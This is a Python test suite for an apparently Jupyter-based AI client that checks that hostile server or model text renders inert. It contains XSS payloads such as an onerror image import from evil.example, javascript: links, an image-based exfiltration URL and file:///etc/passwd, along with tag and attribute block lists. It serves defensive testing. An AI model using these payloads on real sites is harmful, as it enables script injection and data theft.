"""Every displayed MIME type of every object stays inert when server or model strings are hostile.

Each payload of ``tests/fixtures/xss_payloads.json`` (the same file the front end's vitest reads) goes into
every server-controlled field of every object the package displays. The bundle is built the way Jupyter builds
it (IPython's display formatter), then rendered the way JupyterLab renders trusted output: ``text/html`` as is
and ``text/markdown`` through a CommonMark renderer with raw HTML allowed and every link accepted. The result
must hold no active element, no event handler, no script or data URL and nothing that fetches a remote
resource.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from IPython.core.formatters import DisplayFormatter
from markdown_it import MarkdownIt

from hermes_notebook.client.jobs import Job
from hermes_notebook.cron.display import JobList
from hermes_notebook.export import to_html, to_ipynb, to_markdown
from hermes_notebook.jobs.runs import JobRun, RunList
from hermes_notebook.notebook.context import PromptPreview
from hermes_notebook.notebook.results import Reply, Status, Table, Transcript
from hermes_notebook.notebook.session_results import MODEL_COLUMNS, CommandResult, usage_from
from hermes_notebook.render import _CSS, transcript_bundle, transcript_markdown
from hermes_notebook.session import model_rows

PAYLOADS: list[str] = json.loads((Path(__file__).parent / "fixtures" / "xss_payloads.json").read_text())[
    "payloads"
]

# Tags that run script, load something, or submit anything: none may come out of a display path.
ACTIVE_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "meta",
    "link",
    "base",
    "img",
    "image",
    "svg",
    "math",
    "video",
    "audio",
    "source",
    "picture",
    "track",
    "portal",
    "template",
    "marquee",
    "isindex",
    "keygen",
}
# Attributes that load a resource or carry script, whatever their value.
LOADING_ATTRS = {
    "src",
    "srcset",
    "srcdoc",
    "background",
    "poster",
    "data",
    "action",
    "formaction",
    "xlink:href",
    "ping",
    "lowsrc",
    "dynsrc",
    "codebase",
    "archive",
}
SAFE_HREF = re.compile(r"^(?:https?|mailto):", re.IGNORECASE)


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS:
            self.problems.append(f"<{tag}>")
        self._in_style = tag == "style"
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{tag}[{name}]")
            elif name in LOADING_ATTRS:
                self.problems.append(f"{tag}[{name}={value[:40]}]")
            elif name == "href" and not SAFE_HREF.match(re.sub(r"[\x00-\x20\x7f-\x9f]", "", value)):
                self.problems.append(f"{tag}[href={value[:40]}]")
            elif name == "style" and re.search(r"url\(|expression|@import", value, re.IGNORECASE):
                self.problems.append(f"{tag}[style={value[:40]}]")

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style and data not in KNOWN_CSS:
            self.problems.append(f"<style>{data[:40]}")


def _known_css() -> set[str]:
    from hermes_notebook.cron.display import _CSS as JOBS_CSS
    from hermes_notebook.render_checkpoints import REWIND_CSS

    return {_CSS, JOBS_CSS, REWIND_CSS}


KNOWN_CSS = _known_css()


def _jupyter_markdown() -> MarkdownIt:
    """CommonMark + tables with raw HTML on and no link validation: what a permissive renderer does."""
    md = MarkdownIt("gfm-like", {"html": True, "linkify": False})
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


JUPYTER_MD = _jupyter_markdown()


def problems_in_bundle(bundle: Mapping[str, Any]) -> list[str]:
    """Render each displayable MIME type as JupyterLab would and list what would be live."""
    found: list[str] = []
    for mime, value in bundle.items():
        if mime == "text/html":
            html_text = str(value)
            if not _all_in_inert_containers(html_text):
                found.append("text/html outside the inert (MathJax-ignored) container")
        elif mime == "text/markdown":
            html_text = JUPYTER_MD.render(str(value))
            if any(MATH.search(text) for text in _prose(str(value))):
                found.append("text/markdown with a math delimiter")
        elif mime == "text/plain":
            continue
        else:
            found.append(f"unexpected MIME type {mime}")
            continue
        inspector = _Inspector()
        inspector.feed(html_text)
        inspector.close()
        found.extend(f"{mime}: {p}" for p in inspector.problems)
    return found


# What MathJax typesets in rendered markdown: $, \( and \[, environments and equation references.
MATH = re.compile(r"\$|\\\(|\\\[|\\(?:begin|ref|eqref)\s*\{")
VOID_TAGS = {
    "area",
    "base",
    "br",
    "col",
    "embed",
    "hr",
    "img",
    "input",
    "link",
    "meta",
    "source",
    "track",
    "wbr",
}


class _TopLevel(HTMLParser):
    """The outermost elements of an HTML string (and any text outside them)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.depth = 0
        self.outer: list[tuple[str, str]] = []  # (tag, class) of each element at depth 0
        self.stray_text = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.depth == 0:
            self.outer.append((tag, dict(attrs).get("class") or ""))
        if tag not in VOID_TAGS:
            self.depth += 1

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.depth == 0:
            self.outer.append((tag, dict(attrs).get("class") or ""))

    def handle_endtag(self, tag: str) -> None:
        if tag not in VOID_TAGS:
            self.depth -= 1

    def handle_data(self, data: str) -> None:
        self.stray_text = self.stray_text or (self.depth == 0 and bool(data.strip()))


def _all_in_inert_containers(html_text: str) -> bool:
    """Is all of ``html_text`` inside elements that MathJax skips (``tex2jax_ignore``), none of it beside
    them?"""
    parser = _TopLevel()
    parser.feed(html_text)
    parser.close()
    return (
        bool(parser.outer)
        and all("tex2jax_ignore" in cls.split() for _tag, cls in parser.outer)
        and parser.depth == 0
        and not parser.stray_text
    )


def _prose(markdown: str) -> Iterator[str]:
    """The source text of markdown outside code (where JupyterLab looks for ``$...$`` and ``\\(...\\)``)."""
    stack = list(JUPYTER_MD.parse(markdown))
    while stack:
        token = stack.pop()
        if token.type == "inline":
            # The inline token keeps its source (character references not yet decoded); drop the code spans.
            yield re.sub(r"(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)", "", token.content)
        elif token.type == "html_block":
            yield token.content


_FORMATTER = DisplayFormatter()


def displayed(obj: object) -> dict[str, Any]:
    """The MIME bundle IPython would send for ``obj`` as a cell's value."""
    data, _metadata = _FORMATTER.format(obj)
    return data


def hostile_images(payload: str) -> list[dict[str, Any]]:
    """Image references with the payload in every server-controlled field (path, URL, alt, type, data,
    note)."""
    base = {"mime": None, "data": None, "path": None, "url": None, "alt": payload, "bytes": 12, "note": None}
    return [
        {**base, "source": "media", "path": payload, "mime": payload},
        {**base, "source": "remote", "url": payload},
        {**base, "source": "remote", "url": f"https://evil.example/{payload}"},
        {**base, "source": "inline", "mime": payload, "data": payload, "note": payload},
        {**base, "source": "inline", "mime": "image/png", "data": payload},
    ]


def hostile_message(payload: str) -> dict[str, Any]:
    """An assistant message with the payload in every server- or model-controlled field."""
    return {
        "id": "m1",
        "role": "assistant",
        "status": payload,
        "error": payload,
        "usage": {"input": 1, "output": 2},
        "parts": [
            {"kind": "reasoning", "id": "r", "text": payload},
            {"kind": "text", "id": "t", "text": payload},
            {"kind": "text", "id": "t2", "text": f"before {payload} after\n\n> {payload}\n\n- {payload}"},
            {
                "kind": "tool",
                "id": "tool",
                "name": payload,
                "status": payload,
                "preview": payload,
                "result": payload,
                "duration": 0.5,
                "interaction": {
                    "kind": "approval",
                    "request_id": payload,
                    "command": payload,
                    "description": payload,
                    "status": "answered",
                    "response": payload,
                },
            },
            {
                "kind": "tool",
                "id": "tool2",
                "name": "x",
                "status": "done",
                "arguments": {"k": payload},
                "result": {"out": payload},
                "diff": f"a/{payload} → b/x\n@@ {payload}\n+{payload}\n-{payload}\n {payload}",
                "risk": {"level": payload, "findings": [payload, "prompt_injection"], "redacted": False},
                "images": hostile_images(payload),
            },
            {"kind": "text", "id": "t3", "text": "see the chart", "images": hostile_images(payload)},
            {
                "kind": "todo",
                "id": "todo",
                "text": "",
                "status": None,
                "todos": [
                    {"id": payload, "content": payload, "status": payload, "parent": payload},
                    {"id": "2", "content": payload, "status": "completed", "parent": None},
                ],
            },
            {
                "kind": "subagent",
                "id": "subagent:x",
                "text": "",
                "status": payload,
                "duration": 1.0,
                "subagent": {
                    "id": payload,
                    "parent_id": payload,
                    "depth": 1,
                    "goal": payload,
                    "status": payload,
                    "model": payload,
                    "task_index": 0,
                    "task_count": 1,
                    "activity": payload,
                    "tools": [{"name": payload, "preview": payload}],
                    "summary": payload,
                },
            },
        ],
    }


def hostile_objects(payload: str) -> Iterator[tuple[str, object]]:
    message = hostile_message(payload)
    yield "Reply", Reply(message, notes=[payload])
    yield (
        "Transcript",
        Transcript(
            [{"id": "u", "role": "user", "parts": [{"kind": "text", "id": "p", "text": payload}]}, message]
        ),
    )
    yield (
        "sessions table",
        Table(
            [
                {"id": payload, "title": payload, "preview": payload, "source": payload},
                {"id": "s2", "title": payload, "preview": payload, "source": payload},
            ],
            columns=("id", "title", "preview", "source"),
            current=payload,
        ),
    )
    yield (
        "jobs table",
        Table(
            [
                {
                    "id": payload,
                    "name": payload,
                    "schedule": payload,
                    "state": payload,
                    "next_run_at": payload,
                    "last_status": payload,
                }
            ],
            columns=("id", "name", "schedule", "state", "next_run_at", "last_status"),
            empty=payload,
        ),
    )
    yield "empty table", Table([], columns=("id",), empty=payload)
    yield (
        "Status",
        Status(
            api={"url": payload, "ok": False, "error": payload, "version": payload},
            dashboard={
                "url": payload,
                "ok": True,
                "version": payload,
                "connected": True,
                "features": [payload],
            },
            via=payload,
            session=payload,
        ),
    )
    job = Job.from_json(
        {
            "id": payload,
            "name": payload,
            "prompt": payload,
            "schedule_display": payload,
            "state": payload,
            "last_status": "error",
            "last_error": payload,
            "deliver": payload,
            "skills": [payload],
            "schedule": {"kind": "cron", "expr": payload, "display": payload},
        }
    )
    yield "Job", job
    yield "JobList", JobList([job, job])
    run = JobRun.from_session(
        {
            "id": "cron_abc123_20300101_000000",
            "started_at": 1.0,
            "ended_at": 2.0,
            "end_reason": payload,
            "title": payload,
        }
    )
    yield "RunList", RunList([run, run])
    yield "PromptPreview", PromptPreview(payload, values=[(payload, payload, 1)])
    # models, usage and Hermes' own commands (session/readings.py, notebook/session_results.py): model names,
    # labels, command output
    yield (
        "models table",
        Table(
            model_rows(
                {
                    "model": payload,
                    "provider": payload,
                    "providers": [{"slug": payload, "models": [payload, "m2"]}],
                }
            ),
            columns=MODEL_COLUMNS,
        ),
    )
    yield (
        "SessionUsage",
        usage_from(
            payload,
            {"model": payload, "input": 1, "cost_status": payload},
            {
                "context_max": 10,
                "context_used": 1,
                "model": payload,
                "categories": [{"id": payload, "label": payload, "tokens": 3}],
            },
            [payload],
        ),
    )
    yield "CommandResult", CommandResult(payload, payload, payload)
    # profiles (client/dashboard/profiles.py): the names, models and descriptions a profile picker lists
    yield (
        "profiles table",
        Table(
            [{"name": payload, "model": payload, "description": payload, "default": False}],
            columns=("name", "model", "description", "default"),
            current=payload,
        ),
    )
    yield from hostile_session_views(payload)


def hostile_session_views(payload: str) -> Iterator[tuple[str, object]]:
    """``hermes.profiles()``, ``rollback()`` (the list and a restore) and ``changes()`` with the payload as
    every profile name, model and description, checkpoint note, file name and diff line
    (notebook/session_views.py)."""
    from datetime import datetime, timezone

    from hermes_notebook.notebook.session_views import Changes, Restored, checkpoints_table, profiles_table
    from hermes_notebook.session import Checkpoint, Checkpoints, Profile, RestoreResult, TurnChanges
    from hermes_notebook.turns.checkpoints import parse_diff

    yield (
        "hermes.profiles()",
        profiles_table(
            [
                Profile(payload, True, payload, payload, payload, payload),
                Profile("work", description=payload),
            ],
            payload,
        ),
    )
    yield (
        "hermes.rollback()",
        checkpoints_table(
            Checkpoints(
                True,
                (
                    Checkpoint("ab12cd34", datetime.now(timezone.utc), payload),
                    Checkpoint(payload, None, payload),
                ),
            )
        ),
    )
    yield "rollback restore", Restored(RestoreResult(True, payload, (payload, "x"), (payload,), 2, payload))
    diff = f"diff --git a/{payload} b/{payload}\n@@ -1 +1 @@ {payload}\n-{payload}\n+{payload}\n"
    checkpoint = Checkpoint("ab12cd34", None, payload)
    yield (
        "hermes.changes()",
        Changes(TurnChanges(payload, checkpoint, parse_diff("ab12cd34", {"diff": diff}))),
    )
    yield "no changes", Changes(TurnChanges(payload, None, None, note=payload))


def hostile_rewind(payload: str) -> list[dict[str, str]]:
    """A checkpoint list and a checkpoint's changes with the payload as Hermes' note, file names and diff
    lines."""
    from datetime import datetime, timezone

    from hermes_notebook.render_checkpoints import checkpoint_diff_bundle, checkpoints_bundle
    from hermes_notebook.turns.checkpoints import Checkpoint, parse_diff

    listed = checkpoints_bundle(
        [Checkpoint("ab12cd34", datetime.now(timezone.utc), payload), Checkpoint(payload, None)]
    )
    diff = (
        f"diff --git a/{payload} b/{payload}\n--- a/{payload}\n+++ b/{payload}\n@@ -1 +1 @@ {payload}\n"
        f"-{payload}\n+{payload}\n"
    )
    changes = checkpoint_diff_bundle(
        parse_diff("ab12cd34", {"diff": diff, "stat": f" {payload} | 2 +-\n x | Bin"})
    )
    return [listed, changes]


def test_corpus_is_large_and_shared() -> None:
    """At least 60 payloads, in the one file the front-end tests read too."""
    assert len(PAYLOADS) >= 60
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    js_test = (Path(__file__).parents[1] / "js" / "tests" / "sanitize.test.ts").read_text()
    assert "xss_payloads.json" in js_test


def test_checker_flags_live_content() -> None:
    """The checker is not vacuous: the old markdown table (only ``|`` escaped) is flagged, so is raw HTML."""
    payload = "<img src=x onerror=\"import('https://evil.example')\">"
    old_table = "| title |\n|---|\n| " + payload.replace("|", "\\|") + " |"
    assert problems_in_bundle({"text/markdown": old_table}) == [
        "text/markdown: <img>",
        "text/markdown: img[src=x]",
        "text/markdown: img[onerror]",
    ]
    assert "text/markdown: a[href=javascript:alert(1)]" in problems_in_bundle(
        {"text/markdown": "[x](javascript:alert(1))"}
    )
    assert problems_in_bundle({"text/html": "<b>x</b>"}) == [
        "text/html outside the inert (MathJax-ignored) container"
    ]
    assert problems_in_bundle({"text/markdown": "$\\href{javascript:x}{y}$"}) == [
        "text/markdown with a math delimiter"
    ]
    assert problems_in_bundle({"text/markdown": "\\begin{align}x\\end{align}"}) == [
        "text/markdown with a math delimiter"
    ]
    inert = '<div class="hn-inert tex2jax_ignore mathjax_ignore">x</div>'
    assert problems_in_bundle({"text/html": inert}) == []
    assert problems_in_bundle({"text/html": inert + '<div class="hn-meta">Note: $x$</div>'}) == [
        "text/html outside the inert (MathJax-ignored) container"
    ]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_every_display_path_is_inert(payload: str) -> None:
    """Each object that shows server text renders with nothing live, whatever the payload."""
    for name, obj in hostile_objects(payload):
        bundle = displayed(obj)
        assert "text/html" in bundle and "text/plain" in bundle, name
        assert "text/markdown" not in bundle, f"{name}: JupyterLab renders raw HTML in trusted markdown"
        assert problems_in_bundle(bundle) == [], name


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_rewind_views_are_inert(payload: str) -> None:
    """Checkpoint lists and a checkpoint's per-file changes (paths, notes, diff lines: server text) hold
    nothing live, and their plain text obeys no terminal control."""
    for bundle in hostile_rewind(payload):
        assert problems_in_bundle(bundle) == []
        assert TERMINAL_CONTROL.findall(bundle["text/plain"]) == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_markdown_export_is_inert(payload: str) -> None:
    """The markdown transcript (an export) stays inert even where raw HTML and any link are rendered."""
    message = hostile_message(payload)
    markdown = transcript_markdown([message])
    assert problems_in_bundle({"text/markdown": markdown}) == []
    assert problems_in_bundle(transcript_bundle([message])) == []


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_exported_files_are_inert(payload: str) -> None:
    """``Hermes.export``, ``Reply.to_markdown`` and the chat's Export: Markdown and notebook cells rendered
    with raw HTML and any link allowed, and the HTML page, hold nothing live whatever the payload (title
    included)."""
    messages = [
        {"id": "u", "role": "user", "parts": [{"kind": "text", "id": "p", "text": payload}]},
        hostile_message(payload),
    ]
    assert problems_in_bundle({"text/markdown": to_markdown(messages, title=payload)}) == []
    for cell in to_ipynb(messages, title=payload)["cells"]:
        assert problems_in_bundle({"text/markdown": cell["source"]}) == []
    inspector = _Inspector()
    inspector.feed(to_html(messages, title=payload))
    inspector.close()
    assert inspector.problems == ["<meta>", "<meta>"]  # the page's own charset and viewport, nothing else


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_reply_images_and_exports_with_images_are_inert(payload: str) -> None:
    """``Reply.images`` (each displayed on its own) and exports with ``images=True``: a hostile image
    reference (alt text, path, URL, type, data, note) is named as text or a safe link, never an image of its
    claimed bytes."""
    message = hostile_message(payload)
    shown = {"image/png", "image/jpeg", "image/gif", "image/webp"}
    images = Reply(message).images
    assert len(images) == 10
    for image in images:
        bundle = displayed(image)
        assert set(bundle) <= {"text/plain", "text/html"}, bundle.keys()  # no payload sniffs as an image
        assert problems_in_bundle(bundle) == [] and TERMINAL_CONTROL.findall(bundle["text/plain"]) == []
    messages = [message]
    assert problems_in_bundle({"text/markdown": to_markdown(messages, images=True)}) == []
    for cell in to_ipynb(messages, images=True)["cells"]:
        assert problems_in_bundle({"text/markdown": cell["source"]}) == []
    inspector = _Inspector()
    inspector.feed(to_html(messages, images=True))
    inspector.close()
    assert inspector.problems == ["<meta>", "<meta>"]
    assert not shown & set(displayed(Reply(message)))


def test_a_prompt_cannot_arm_the_next_message_of_an_export() -> None:
    """An export joins messages into one document: a prompt's link definition (``[x]: javascript:...``) would
    arm the reply's ``[x]``, and a prompt's tag without its ``>`` would be closed by the next tag in the file.
    Each is written as a literal block instead, in ``.md``, ``.ipynb`` cells and ``Reply.to_markdown()``
    alike."""
    for prompt, reply_text in (
        ("[x]: javascript:alert(1)", "see [x]"),
        ("look <img src=x onerror=alert(1)//", "fine, <b>bold</b> is shown as text"),
    ):
        reply = Reply(
            {
                "id": "m",
                "role": "assistant",
                "status": "complete",
                "usage": {"input": 1},
                "parts": [{"kind": "text", "id": "t", "text": reply_text}],
            },
            prompt=prompt,
        )
        messages = [
            {"id": "u", "role": "user", "parts": [{"kind": "text", "id": "p", "text": prompt}]},
            {
                **reply.message,
                "parts": [
                    {"kind": "text", "id": "t", "text": prompt},
                    {"kind": "text", "id": "t2", "text": reply_text},
                ],
            },
        ]
        documents = [
            to_markdown(messages),
            reply.to_markdown(),
            *(c["source"] for c in to_ipynb(messages)["cells"]),
        ]
        for document in documents:
            assert problems_in_bundle({"text/markdown": document}) == [], document
            outside_code = "".join(_prose(document))
            assert not re.search(r"<(?!/?(?:details|summary|sub)>)[A-Za-z/!?]", outside_code), document


# What a terminal (or a notebook's stream output) would obey: C0 controls but newline and tab, DEL, C1
# controls.
TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
TERMINAL_OBJECTS = (
    "Reply",
    "Transcript",
    "sessions table",
    "jobs table",
    "empty table",
    "Status",
    "Job",
    "JobList",
    "RunList",
    "PromptPreview",
    "models table",
    "SessionUsage",
    "CommandResult",
    "profiles table",
    "hermes.profiles()",
    "hermes.rollback()",
    "rollback restore",
    "hermes.changes()",
    "no changes",
)


class _Listeners:
    """What a presenter needs of a turn handle: somewhere to register for change records."""

    def __init__(self) -> None:
        self.listeners: list[Any] = []
        self.secrets: tuple[object, ...] = ()

    def add_listener(self, listener: Any) -> None:
        self.listeners.append(listener)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_every_terminal_path_is_inert(
    payload: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Streamed text, tool lines, notes, the approval and clarify prompts and the plain-text reprs a terminal
    shows carry no control character (escape sequence, carriage return, bell) whatever the payload."""
    from hermes_notebook.notebook.interactions import prompt_text
    from hermes_notebook.notebook.presenters import TextPresenter

    handle = _Listeners()
    presenter = TextPresenter(handle, direct=True)  # type: ignore[arg-type]
    message = hostile_message(payload)
    changes: list[dict[str, Any]] = [
        {"op": "part", "message_id": "m1", "part": part} for part in message["parts"]
    ]
    changes += [
        {"op": "append", "message_id": "m1", "part_id": "t", "text": payload},
        {"op": "patch", "message_id": "m1", "part_id": "tool", "fields": {"status": "error"}},
        {"op": "finish", "message_id": "m1", "status": "error", "usage": None, "error": payload},
    ]
    handle.listeners[0](changes)
    presenter.finish(Reply(message, notes=[payload]))
    asked: list[str] = []
    answers = iter(["no such choice", "deny", "1"])
    monkeypatch.setattr("builtins.input", lambda prompt="": asked.append(prompt) or next(answers))
    prompt_text(
        {"kind": "approval", "command": payload, "description": payload, "choices": ["deny", payload]}
    )
    prompt_text({"kind": "clarify", "question": payload, "choices": [payload]})
    shown = [capsys.readouterr().out, *asked]
    shown += [
        displayed(obj)["text/plain"] for name, obj in hostile_objects(payload) if name in TERMINAL_OBJECTS
    ]
    for text in shown:
        assert TERMINAL_CONTROL.findall(text) == [], text


def test_reply_notes_are_inside_the_inert_container() -> None:
    """A note quoting a model-chosen command (math, an environment, a tag) sits escaped inside the one
    container MathJax skips, with the transcript."""
    note = (
        "the approval for 'echo $x$ \\begin{align}y\\end{align} <img src=x onerror=alert(1)>' was not "
        "answered"
    )
    html_text = displayed(
        Reply({"id": "m", "role": "assistant", "status": "complete", "parts": []}, notes=[note])
    )["text/html"]
    assert _all_in_inert_containers(html_text) and html_text.count('class="hn-inert') == 1
    assert "Note: the approval for &#x27;echo $x$ \\begin{align}y\\end{align} &lt;img src=x" in html_text
    assert html_text.endswith("</div></div>") and "<img" not in html_text


def test_escaped_text_still_reads() -> None:
    """Escaping keeps the words: a hostile title is shown as text, not dropped."""
    table = Table([{"id": "s1", "title": "<b>bold</b> $x$"}], columns=("id", "title"))
    assert "&lt;b&gt;bold&lt;/b&gt; $x$" in displayed(table)["text/html"]
    assert "<b>bold</b> $x$" in displayed(table)["text/plain"]


def test_images_in_model_output_become_links_naming_the_host() -> None:
    """An image in model output is never loaded by the transcript: it is a link that names its host."""
    html_text = displayed(
        Reply(
            {
                "id": "m",
                "role": "assistant",
                "status": "complete",
                "parts": [
                    {
                        "kind": "text",
                        "id": "t",
                        "text": "![chart](https://evil.example/leak?d=SECRET) ![x](data:image/png;base64,AA)",
                    },
                ],
            }
        )
    )["text/html"]
    assert "<img" not in html_text
    assert 'href="https://evil.example/leak?d=SECRET"' in html_text
    assert "[image: chart from evil.example]" in html_text
    assert "[image: x, not shown]" not in html_text  # data: images are not valid links: left as literal text
    assert "data:image/png" in html_text and 'href="data:' not in html_text


def test_markdown_export_escapes_names_and_fences_longer_than_any_backtick_run() -> None:
    """Tool names and errors are escaped; a result holding a fence cannot close ours."""
    message = {
        "id": "m",
        "role": "assistant",
        "status": "error",
        "error": "*boom* <b>",
        "parts": [
            {
                "kind": "tool",
                "id": "t",
                "name": "a`b",
                "status": "done",
                "result": "x\n````\n<script>y</script>\n````",
            }
        ],
    }
    markdown = transcript_markdown([message])
    assert "`````\nx\n````" in markdown
    assert "&#42;boom&#42; &#60;b&#62;" in markdown
    rendered = JUPYTER_MD.render(markdown)
    assert "<script>" not in rendered and "&lt;script&gt;" in rendered


def test_url_userinfo_is_never_shown() -> None:
    """A password in a URL stays out of status output, reprs and error messages."""
    from hermes_notebook.client._http import HttpTransport
    from hermes_notebook.errors import HermesConnectionError
    from hermes_notebook.settings import Settings

    url = "https://alice:pa55word@hermes.example:8642"
    status = Status(
        api={"url": url, "ok": True},
        dashboard={"url": url, "ok": False, "error": f"no route to {url}"},
        via="dashboard",
        session=None,
    )
    bundle = displayed(status)
    settings = Settings(api_url=url, dashboard_url=url, proxy="http://bob:hunter2@proxy.example:3128")
    transport = HttpTransport(url, None)
    from hermes_notebook.notebook.facade import Hermes

    texts = [
        *bundle.values(),
        repr(settings),
        repr(transport),
        str(HermesConnectionError(f"cannot reach {url}/x")),
        repr(Hermes(settings.with_(dashboard_token="t" * 20))),
    ]
    import asyncio

    asyncio.run(transport.aclose())
    for text in texts:
        assert "pa55word" not in text and "hunter2" not in text and "alice" not in text, text
    assert "https://***@hermes.example:8642" in bundle["text/plain"]
    with pytest.raises(ValueError, match=r"got 'ftp://\*\*\*@x'") as info:
        Settings(api_url="ftp://carol:secret@x")
    assert "secret" not in str(info.value)


def test_kernel_and_front_end_read_one_link_policy() -> None:
    """render.py and markdown.ts/reveal.ts use the same policy file; only http, https and mailto links
    pass."""
    from hermes_notebook.inert import LINK_SCHEMES, is_safe_url

    src = Path(__file__).parents[1] / "js" / "src" / "chat"
    for name in ("markdown.ts", "reveal.ts"):
        assert 'from "../../../hermes_notebook/link_policy.json"' in (src / name).read_text()
    assert LINK_SCHEMES == ("http", "https", "mailto")
    assert all(map(is_safe_url, ["https://a.example", "HTTP://a", "mailto:me@x", " https://x"]))
    assert not any(
        map(
            is_safe_url,
            [
                "javascript:alert(1)",
                "java\tscript:x",
                "data:text/html,x",
                "/api/kernels",
                "#frag",
                "vbscript:x",
                "file:///etc/passwd",
                "ftp://x",
            ],
        )
    )
